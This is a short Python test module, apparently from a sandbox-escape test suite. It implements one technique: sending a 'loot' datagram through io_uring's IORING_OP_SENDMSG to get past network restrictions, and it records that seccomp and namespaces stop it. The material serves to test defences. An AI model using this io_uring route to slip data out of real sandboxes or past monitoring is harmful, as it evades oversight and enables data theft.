"""Send a datagram by io_uring."""

import ctypes
import struct

from tests.escape.grants import another_port
from tests.escape.technique import Bare, Technique


def attack(world):
    descriptor = world.socket_raw(2, 2)
    address = ctypes.create_string_buffer(world.ipv4(world.udp))
    data = ctypes.create_string_buffer(b"loot")
    vector = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(data), 4))
    head = ctypes.create_string_buffer(
        struct.pack("=QI4xQQQQi4x", ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0)
    )
    world.ring(9, descriptor, ctypes.addressof(head), 1)


TECHNIQUE = Technique(
    source="io_uring(7) IORING_OP_SENDMSG",
    policy=another_port,
    event=("kernel.io_uring",),
    by="kernel",
    syscall="io_uring_setup",
    stops=("seccomp", "namespaces"),
    control=Bare(),
)
